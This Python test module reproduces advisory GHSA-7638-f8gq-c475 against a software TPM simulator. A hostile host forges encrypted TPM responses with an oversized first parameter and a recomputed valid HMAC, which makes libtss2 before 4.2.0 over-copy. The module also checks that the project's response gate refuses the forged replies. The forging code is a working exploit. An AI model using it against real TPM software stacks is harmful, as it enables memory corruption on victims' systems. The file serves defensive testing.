# SPDX-License-Identifier: Apache-2.0
"""The attack of GHSA-7638-f8gq-c475, and a victim: ``python -m tests.hostile.tpm.oversized``.

Whoever knows the keys of a session, as everybody does if it is neither salted nor bound, can
answer to a command with an encrypted response: the first parameter says that it is larger than
the whole response, and the HMAC is right. libtss2 before 4.2.0 copies and decrypts as many bytes.
"""

import hashlib
import hmac
import tempfile
from pathlib import Path
from typing import Final

from tpm2_pytss import (
    ESAPI,
    ESYS_TR,
    TPM2_ALG,
    TPM2_SE,
    TPM2_SU,
    TPM2B_NV_PUBLIC,
    TPMA_NV,
    TPMA_SESSION,
    TPMS_NV_PUBLIC,
    TPMT_SYM_DEF,
    TSS2_Exception,
)

from strongroom import _core
from tests.hostile.tpm.simulator import Transmit, Wire, simulator

GET_RANDOM: Final = 0x17B
NV_READ: Final = 0x14E
CODE: Final = slice(6, 10)
PARAMETERS_SIZE: Final = slice(10, 14)
PARAMETERS_AT: Final = 14
RANDOM_BYTES: Final = 8
INDEX_BYTES: Final = 8


def oversized(command: bytes, response: bytes, size: int) -> bytes:
    """Return the response with another size of its first parameter, and the HMAC that fits.

    Both have one session, with empty keys, and no response handle.
    """
    end = PARAMETERS_AT + int.from_bytes(response[PARAMETERS_SIZE])
    parameters = size.to_bytes(2) + response[PARAMETERS_AT + 2 : end]
    nonce_tpm, attributes = _first(response[end:])
    handles = {GET_RANDOM: 0, NV_READ: 2}[int.from_bytes(command[CODE])]
    nonce_caller, _ = _first(command[10 + 4 * handles + 4 + 4 :])
    digest = hashlib.sha256(bytes(4) + command[CODE] + parameters).digest()
    code = hmac.digest(b"", digest + nonce_tpm + nonce_caller + attributes, "sha256")
    vouched = len(nonce_tpm).to_bytes(2) + nonce_tpm + attributes + len(code).to_bytes(2) + code
    return response[:PARAMETERS_AT] + parameters + vouched


def _first(authorizations: bytes) -> tuple[bytes, bytes]:
    """Nonce and attributes of the first authorization."""
    size = int.from_bytes(authorizations[:2])
    return authorizations[2 : 2 + size], authorizations[2 + size : 3 + size]


def host(transmit: Transmit, code: int, size: int) -> Transmit:
    """Return a host that answers to commands of one code with an oversized parameter."""

    def carry(command: bytes) -> bytes:
        response = transmit(command)
        attacked = int.from_bytes(command[CODE]) == code
        return oversized(command, response, size) if attacked else response

    return carry


def gated(transmit: Transmit) -> Transmit:
    """Return what transmits, and has each response pass the gate."""

    def carry(command: bytes) -> bytes:
        response = transmit(command)
        _core.tpm_check_response(command, response)
        return response

    return carry


def weak_session(tpm: ESAPI) -> ESYS_TR:
    """Start a session without salt, whose responses are encrypted."""
    cipher = TPMT_SYM_DEF.parse("aes128cfb")
    session = tpm.start_auth_session(
        ESYS_TR.NONE, ESYS_TR.NONE, TPM2_SE.HMAC, cipher, TPM2_ALG.SHA256
    )
    tpm.trsess_set_attributes(session, TPMA_SESSION.ENCRYPT | TPMA_SESSION.CONTINUESESSION, 0xFF)
    return session


def random_bytes(carry: Transmit) -> bytes:
    """Ask for eight random bytes in an encrypted session."""
    with ESAPI(Wire(carry)) as tpm:
        tpm.startup(TPM2_SU.CLEAR)
        return bytes(tpm.get_random(RANDOM_BYTES, session1=weak_session(tpm)))


def index_bytes(carry: Transmit) -> bytes:
    """Write and read an index of eight bytes in an encrypted session."""
    attributes = TPMA_NV.AUTHREAD | TPMA_NV.AUTHWRITE | TPMA_NV.NO_DA
    public = TPMS_NV_PUBLIC(
        nvIndex=0x01800001, nameAlg=TPM2_ALG.SHA256, attributes=attributes, dataSize=INDEX_BYTES
    )
    with ESAPI(Wire(carry)) as tpm:
        tpm.startup(TPM2_SU.CLEAR)
        index = tpm.nv_define_space(None, TPM2B_NV_PUBLIC(public))
        tpm.nv_write(index, bytes(INDEX_BYTES))
        return bytes(tpm.nv_read(index, INDEX_BYTES, session1=weak_session(tpm)))


def main() -> None:
    """Be the victim of a host that claims 65535 bytes."""
    with tempfile.TemporaryDirectory() as place, simulator(Path(place)) as transmit:
        try:
            random_bytes(host(transmit, GET_RANDOM, 0xFFFF))
        except TSS2_Exception as error:
            print(f"refused: {error}")


if __name__ == "__main__":
    main()
